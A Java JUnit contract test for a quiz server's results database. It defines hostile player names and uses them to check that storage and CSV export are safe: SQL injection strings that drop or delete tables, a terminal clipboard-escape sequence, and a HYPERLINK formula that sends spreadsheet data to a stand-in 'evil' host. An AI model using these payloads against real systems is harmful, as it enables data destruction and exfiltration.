@@ -1,0 +1,328 @@
+package dev.tlsquiz.server.results.store;
+
+import static dev.tlsquiz.server.results.store.TestGames.T0;
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertThrows;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import dev.tlsquiz.codec.AnswerFormat;
+import dev.tlsquiz.server.game.Judgement;
+import dev.tlsquiz.server.results.export.ExportFormat;
+import dev.tlsquiz.server.results.export.ExportWriter;
+import dev.tlsquiz.server.results.query.GameFilter;
+import dev.tlsquiz.server.results.query.GameSummary;
+import dev.tlsquiz.server.results.query.LeaderboardOrder;
+import dev.tlsquiz.server.results.query.LeaderboardRow;
+import dev.tlsquiz.server.services.AnswerRecord;
+import dev.tlsquiz.server.services.GameRecord;
+import dev.tlsquiz.server.services.PlayerRecord;
+import dev.tlsquiz.server.services.QuestionRecord;
+import java.io.StringReader;
+import java.io.StringWriter;
+import java.sql.Connection;
+import java.sql.ResultSet;
+import java.sql.SQLException;
+import java.sql.Statement;
+import java.time.Duration;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.function.UnaryOperator;
+import javax.sql.DataSource;
+import org.apache.commons.csv.CSVFormat;
+import org.apache.commons.csv.CSVParser;
+import org.apache.commons.csv.CSVRecord;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+
+/**
+ * What every results database must do, run against SQLite ({@link SqliteGameStoreTest}) and PostgreSQL
+ * ({@link PostgresGameStoreTest}) alike. Each test starts from an empty, freshly migrated database.
+ */
+abstract class GameStoreContractTest {
+
+    /** Names a player may choose: SQL, quotes, terminal escapes, formulas, emoji, NUL, half a surrogate. */
+    static final String INJECTION = "x'); DROP TABLE games;--";
+    static final String HOSTILE_NAMES = "\"; DELETE FROM players; --";
+    static final String ESCAPES = "\u001b[2J\u001b]52;c;ZXZpbA==\u0007ev\u202eil";
+    static final String FORMULA = "=HYPERLINK(\"http://evil/?\"&A1,\"click\")";
+    static final String ODD = "zo\u00eb \uD83E\uDDD1\u200D\uD83D\uDCBB nul\u0000 half\uD800";
+
+    ResultsStore store;
+
+    /** A fresh, empty location for this test. */
+    abstract DatabaseLocation location() throws Exception;
+
+    /** A plain connection to the same database, to look under the store. */
+    abstract Connection connect() throws SQLException;
+
+    /** A plain data source on the same database, for Flyway run by hand. */
+    abstract DataSource dataSource();
+
+    abstract Dialect dialect();
+
+    /** Empties the database after a test (drops every table, Flyway's too). */
+    abstract void wipe() throws Exception;
+
+    @BeforeEach
+    void open() throws Exception {
+        store = GameStores.open(location());
+    }
+
+    @AfterEach
+    void close() throws Exception {
+        if (store != null) {
+            store.close();
+        }
+        wipe();
+    }
+
+    @Test
+    void save_whenRead_thenTheSameGameComesBack() throws Exception {
+        GameRecord room = TestGames.room(0x1234abcdL, "K7QX", T0, "ada", "~bob", "~cy");
+        GameRecord solo = TestGames.solo(-5L, "~dee", T0.plusSeconds(60), 4, 3);
+
+        store.save(room);
+        store.save(solo);
+
+        assertEquals(List.of(room), store.games(0x1234abcdL));
+        assertEquals(List.of(solo), store.games(-5L));
+        assertEquals(List.of(), store.games(77L));
+    }
+
+    @Test
+    void save_whenSavedAgain_thenKeptOnce() throws Exception {
+        GameRecord game = TestGames.room(42, "K7QX", T0, "ada", "~bob", "~cy");
+
+        store.save(game);
+        store.save(game);
+
+        assertEquals(1, store.games(GameFilter.all()).size());
+        assertEquals(3, count("players"));
+        assertEquals(8, count("answers"));
+        assertEquals(3, count("choices"));
+    }
+
+    @Test
+    void save_whenSameIdFromAnotherInstance_thenBothKept() throws Exception {
+        GameRecord a = TestGames.solo(42, "~ann", T0, 2, 1);
+        GameRecord b = new GameRecord(42, a.kind(), "quiz-b", null, a.settings(), a.started(), a.ended(), "client disconnected",
+                a.players(), a.questions(), a.answers());
+
+        store.save(a);
+        store.save(b);
+
+        assertEquals(List.of(a, b), store.games(42));
+    }
+
+    @Test
+    void save_whenNamesAndAnswersAreHostile_thenKeptAsTextAndFoundByBoundParameters() throws Exception {
+        List<String> names = List.of(INJECTION, HOSTILE_NAMES, ESCAPES, FORMULA, ODD);
+        List<PlayerRecord> players = new ArrayList<>();
+        List<AnswerRecord> answers = new ArrayList<>();
+        for (int i = 0; i < names.size(); i++) {
+            players.add(new PlayerRecord(names.get(i), false, null, null, 10 - i, i + 1, 0, 1));
+            answers.add(new AnswerRecord(i, 1, names.get((i + 1) % names.size()), Judgement.WRONG, 0, 10));
+        }
+        GameRecord game = new GameRecord(7, GameRecord.GameKind.ROOM, "quiz-a", INJECTION, ESCAPES, T0.minusSeconds(5), T0,
+                FORMULA, players, List.of(new QuestionRecord(1, ODD, AnswerFormat.TEXT, List.of(), INJECTION)), answers);
+
+        store.save(game);
+
+        GameRecord back = store.games(7).get(0);
+        assertEquals(INJECTION, back.players().get(0).name());
+        assertEquals(ESCAPES, back.players().get(2).name());
+        assertEquals(FORMULA, back.endReason());
+        assertEquals(INJECTION, back.roomCode());
+        // U+0000 and a lone surrogate cannot be stored (PostgreSQL refuses the first): both become U+FFFD.
+        assertEquals(StoredText.of(ODD), back.players().get(4).name());
+        assertEquals("zo\u00eb \uD83E\uDDD1\u200D\uD83D\uDCBB nul\uFFFD half\uFFFD", StoredText.of(ODD));
+        assertEquals(StoredText.of(ODD), back.questions().get(0).text());
+        for (String name : names) {
+            GameFilter byPlayer = new GameFilter(null, null, name, 0);
+            assertEquals(1, store.games(byPlayer).size(), name);
+        }
+        assertEquals(1, store.games(new GameFilter(null, INJECTION, null, 0)).size());
+        assertEquals(0, store.games(new GameFilter(null, "x' OR '1'='1", null, 0)).size());
+        assertEquals(0, store.games(new GameFilter(null, null, "x' OR '1'='1", 0)).size());
+        assertEquals(1, count("games"), "the games table is still there, with its game");
+    }
+
+    @Test
+    void save_whenAnswerPointsAtNoPlayer_thenRefusedAndNothingKept() throws Exception {
+        GameRecord good = TestGames.solo(9, "~ann", T0, 2, 1);
+        GameRecord bad = new GameRecord(9, good.kind(), good.instance(), null, good.settings(), good.started(), good.ended(),
+                good.endReason(), good.players(), good.questions(),
+                List.of(new AnswerRecord(3, 1, "2", Judgement.CORRECT, 10, 5)));
+
+        IllegalArgumentException refused = assertThrows(IllegalArgumentException.class, () -> store.save(bad));
+
+        assertTrue(refused.getMessage().contains("player 3"), refused.getMessage());
+        assertEquals(0, count("games"));
+    }
+
+    @Test
+    void games_whenFiltered_thenOnlyTheSelectedMostRecentFirst() throws Exception {
+        store.save(TestGames.room(1, "ROOM1", T0, "ada", "~bob", "~cy"));
+        store.save(TestGames.room(2, "ROOM2", T0.plusSeconds(10), "~bob", "~cy", "~dee"));
+        store.save(TestGames.solo(3, "ada", T0.plusSeconds(20), 3, 3));
+
+        assertEquals(List.of(3L, 2L, 1L), ids(store.games(GameFilter.all())));
+        assertEquals(List.of(3L, 2L), ids(store.games(GameFilter.all().withLimit(2))));
+        assertEquals(List.of(2L, 1L), ids(store.games(new GameFilter(null, null, "~bob", 0))));
+        assertEquals(List.of(3L, 1L), ids(store.games(new GameFilter(null, null, "ada", 0))));
+        assertEquals(List.of(2L), ids(store.games(new GameFilter(null, "ROOM2", null, 0))));
+        assertEquals(List.of(3L, 2L), ids(store.games(new GameFilter(T0.plusSeconds(10), null, null, 0))));
+
+        GameSummary room = store.games(new GameFilter(null, "ROOM1", null, 0)).get(0);
+        assertEquals(new GameSummary("quiz-a", 1, GameRecord.GameKind.ROOM, "ROOM1", T0.minusSeconds(90), T0, "completed",
+                3, 3, "ada", 300), room);
+    }
+
+    @Test
+    void leaderboard_whenByScore_thenTotalsWithSharedRanks() throws Exception {
+        store.save(TestGames.room(1, "R", T0, "ada", "~bob", "~cy"));          // ada 300, bob 100, cy 100
+        store.save(TestGames.solo(2, "~bob", T0.plusSeconds(10), 4, 2));          // bob +20
+        store.save(TestGames.solo(3, "~cy", T0.plusSeconds(20), 4, 2));           // cy +20
+
+        List<LeaderboardRow> top = store.leaderboard(GameFilter.all(), LeaderboardOrder.SCORE);
+
+        assertEquals(List.of(
+                new LeaderboardRow(1, "ada", 1, 300, 3, 3, 3),
+                new LeaderboardRow(2, "~bob", 2, 120, 3, 6, 7),
+                new LeaderboardRow(2, "~cy", 2, 120, 3, 6, 6)), top);
+        assertEquals(List.of(new LeaderboardRow(1, "~bob", 1, 20, 2, 4, 4), new LeaderboardRow(1, "~cy", 1, 20, 2, 4, 4)),
+                store.leaderboard(new GameFilter(T0.plusSeconds(5), null, null, 0), LeaderboardOrder.SCORE));
+        assertEquals(1, store.leaderboard(GameFilter.all().withLimit(1), LeaderboardOrder.SCORE).size());
+    }
+
+    @Test
+    void leaderboard_whenByAccuracy_thenRightAnswersOverQuestionsPut() throws Exception {
+        store.save(TestGames.solo(1, "~half", T0, 4, 2));
+        store.save(TestGames.solo(2, "~all", T0, 2, 2));
+        store.save(TestGames.solo(3, "~most", T0, 4, 3));
+        store.save(TestGames.solo(4, "~alsohalf", T0, 8, 4));
+
+        List<LeaderboardRow> top = store.leaderboard(GameFilter.all(), LeaderboardOrder.ACCURACY);
+
+        assertEquals(List.of("~all", "~most", "~alsohalf", "~half"), top.stream().map(LeaderboardRow::name).toList());
+        assertEquals(List.of(1, 2, 3, 3), top.stream().map(LeaderboardRow::rank).toList());
+        assertEquals(0.75, top.get(1).accuracy());
+    }
+
+    @Test
+    void export_whenWrittenAsCsvAndParsedBack_thenEqualsWhatWasPlayed() throws Exception {
+        List<GameRecord> games = List.of(
+                TestGames.room(1, "R1", T0, "ada", "~bob", "~cy"),
+                TestGames.solo(2, "~dee", T0.plusSeconds(30), 3, 2),
+                TestGames.room(3, "R2", T0.plusSeconds(60), FORMULA, "-1+1", ESCAPES));
+        for (GameRecord game : games) {
+            store.save(game);
+        }
+
+        List<List<String>> parsed = exportCsv(GameFilter.all());
+
+        assertEquals(ExpectedExport.csvCells(games), parsed);
+        assertEquals(3 * 3 + 3 + 3 * 3, parsed.size(), "one row per player per question");
+        assertTrue(parsed.stream().anyMatch(row -> row.get(6).equals("'" + FORMULA)), "formula neutralised");
+        assertTrue(parsed.stream().anyMatch(row -> row.get(6).equals("'-1+1")), "formula neutralised");
+    }
+
+    @Test
+    void export_whenFilteredByPlayer_thenOnlyTheirRows() throws Exception {
+        List<GameRecord> games = List.of(TestGames.room(1, "R1", T0, "ada", "~bob", "~cy"),
+                TestGames.solo(2, "~dee", T0.plusSeconds(30), 3, 2));
+        for (GameRecord game : games) {
+            store.save(game);
+        }
+
+        List<List<String>> parsed = exportCsv(new GameFilter(null, null, "~bob", 0));
+
+        assertEquals(3, parsed.size());
+        assertTrue(parsed.stream().allMatch(row -> row.get(6).equals("~bob")), parsed::toString);
+        assertEquals(List.of("", "timeout", "0", "20000"), parsed.get(2).subList(15, 19));
+    }
+
+    @Test
+    void prune_whenOlderGamesExist_thenTheyGoWithEverythingInThem() throws Exception {
+        store.save(TestGames.room(1, "OLD", T0, "ada", "~bob", "~cy"));
+        store.save(TestGames.room(2, "NEW", T0.plus(Duration.ofDays(100)), "ada", "~bob", "~cy"));
+
+        int pruned = store.prune(T0.plus(Duration.ofDays(10)));
+
+        assertEquals(1, pruned);
+        assertEquals(List.of(2L), ids(store.games(GameFilter.all())));
+        assertEquals(3, count("players"));
+        assertEquals(3, count("questions"));
+        assertEquals(3, count("choices"));
+        assertEquals(8, count("answers"));
+        assertEquals(0, store.prune(T0));
+    }
+
+    @Test
+    void open_whenReopened_thenGamesAreStillThere() throws Exception {
+        GameRecord game = TestGames.solo(5, "~ann", T0, 2, 2);
+        store.save(game);
+        store.close();
+
+        store = GameStores.open(location());
+
+        assertEquals(List.of(game), store.games(5));
+    }
+
+    @Test
+    void open_whenSchemaIsNewerThanThisVersion_thenRefusedWithClearMessage() throws Exception {
+        store.close();
+        store = null;
+        SchemaMigrations.configure(dataSource(), dialect())
+                .locations(dialect().migrations(), "classpath:db/results-future")
+                .load().migrate();
+
+        NewerSchemaException refused = assertThrows(NewerSchemaException.class, () -> GameStores.open(location()));
+
+        assertEquals("99", refused.databaseVersion());
+        assertEquals("version 1", refused.knownVersion());
+        assertTrue(refused.getMessage().contains("has schema version 99, newer than the version 1 this tlsquiz knows"),
+                refused.getMessage());
+        assertTrue(refused.getMessage().contains("Run that newer version"), refused.getMessage());
+    }
+
+    @Test
+    void open_whenFresh_thenSchemaHistoryRecordsVersion1() throws Exception {
+        try (Connection connection = connect(); Statement statement = connection.createStatement();
+             ResultSet rows = statement.executeQuery("SELECT version FROM " + SchemaMigrations.HISTORY_TABLE
+                     + " WHERE success ORDER BY installed_rank")) {
+            assertTrue(rows.next());
+            assertEquals("1", rows.getString(1));
+        }
+    }
+
+    List<List<String>> exportCsv(GameFilter filter) throws Exception {
+        StringWriter out = new StringWriter();
+        try (ExportWriter writer = ExportWriter.of(ExportFormat.CSV, out, UnaryOperator.identity())) {
+            store.export(filter, writer::write);
+        }
+        List<List<String>> rows = new ArrayList<>();
+        try (CSVParser parser = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
+                .parse(new StringReader(out.toString()))) {
+            assertEquals(List.of(dev.tlsquiz.server.results.query.ExportRow.COLUMNS), parser.getHeaderNames());
+            for (CSVRecord record : parser) {
+                rows.add(record.toList());
+            }
+        }
+        assertTrue(out.toString().isEmpty() || out.toString().endsWith("\r\n"), "RFC 4180 line ends");
+        return rows;
+    }
+
+    long count(String table) throws SQLException {
+        try (Connection connection = connect(); Statement statement = connection.createStatement();
+             ResultSet rows = statement.executeQuery("SELECT COUNT(*) FROM " + table)) {
+            rows.next();
+            return rows.getLong(1);
+        }
+    }
+
+    private static List<Long> ids(List<GameSummary> games) {
+        return games.stream().map(GameSummary::gameId).toList();
+    }
+}
